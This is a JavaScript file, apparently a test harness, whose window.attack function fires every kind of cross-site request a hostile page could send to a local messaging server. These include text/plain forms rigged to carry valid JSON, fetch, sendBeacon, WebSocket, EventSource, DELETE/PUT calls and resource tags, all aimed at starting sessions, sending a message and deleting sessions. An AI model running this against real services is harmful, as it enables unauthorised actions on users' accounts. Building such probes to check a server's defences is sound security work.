/** Every way in which an attacker's page can send requests to a server. Runs there, with the server's address. */
window.attack = async (target) => {
  const json = JSON.stringify({ type: 'text', to: '4915112345678', body: 'hello' });
  const paths = { start: `${target}/sessions/saved/start`, send: `${target}/sessions/saved/messages` };
  const reads = ['/sessions', '/sessions/saved/status', '/sessions/saved/events', '/sessions/saved/contacts/1/exists'];
  const quietly = (work) => {
    ways.push(
      new Promise((resolve) => {
        setTimeout(resolve, 1_500);
        try {
          Promise.resolve(work()).then(resolve, resolve);
        } catch (error) {
          resolve(error);
        }
      }),
    );
  };
  const ways = [];
  const frame = (name) => {
    const element = document.createElement('iframe');
    element.name = name;
    document.body.append(element);
    return element;
  };
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
    for (const action of Object.values(paths))
      quietly(() => {
        const form = document.createElement('form');
        const name = `form-${ways.length}`;
        Object.assign(form, { method: 'post', enctype, action, target: frame(name).name });
        const field = document.createElement('input');
        // Sent as text, it is valid JSON.
        Object.assign(field, { name: `${json.slice(0, -1)}, "x": "`, value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
      });
  for (const mode of ['no-cors', 'cors'])
    for (const type of ['text/plain', 'application/json', ''])
      for (const url of Object.values(paths))
        quietly(() => fetch(url, { method: 'POST', mode, body: json, headers: type ? { 'content-type': type } : {} }));
  for (const method of ['DELETE', 'PUT']) quietly(() => fetch(`${target}/sessions/saved`, { method }));
  for (const type of ['text/plain', 'application/json'])
    quietly(() => navigator.sendBeacon(paths.send, new Blob([json], { type })));
  quietly(() =>
    fetch(paths.start, { method: 'POST', mode: 'no-cors', keepalive: true, referrerPolicy: 'no-referrer' }),
  );
  for (const path of reads) {
    const url = target + path;
    quietly(() => fetch(url, { mode: 'no-cors', referrerPolicy: 'no-referrer', credentials: 'include' }));
    quietly(() => new EventSource(url));
    quietly(() => Object.assign(new Image(), { referrerPolicy: 'no-referrer', src: url }));
    for (const [tag, attribute] of [
      ...[
        ['script', 'src'],
        ['iframe', 'src'],
        ['object', 'data'],
      ],
      ...[
        ['video', 'src'],
        ['embed', 'src'],
      ],
    ])
      quietly(() => {
        const element = document.createElement(tag);
        element.setAttribute(attribute, url);
        document.body.append(element);
      });
    quietly(() => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'stylesheet', href: url });
      document.head.append(link);
    });
  }
  quietly(() => new WebSocket(`${target.replace('http', 'ws')}/sessions/saved/events`));
  quietly(() => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#', ping: paths.start });
    document.body.append(link);
    link.click();
  });
  await Promise.all(ways);
  return ways.length;
};
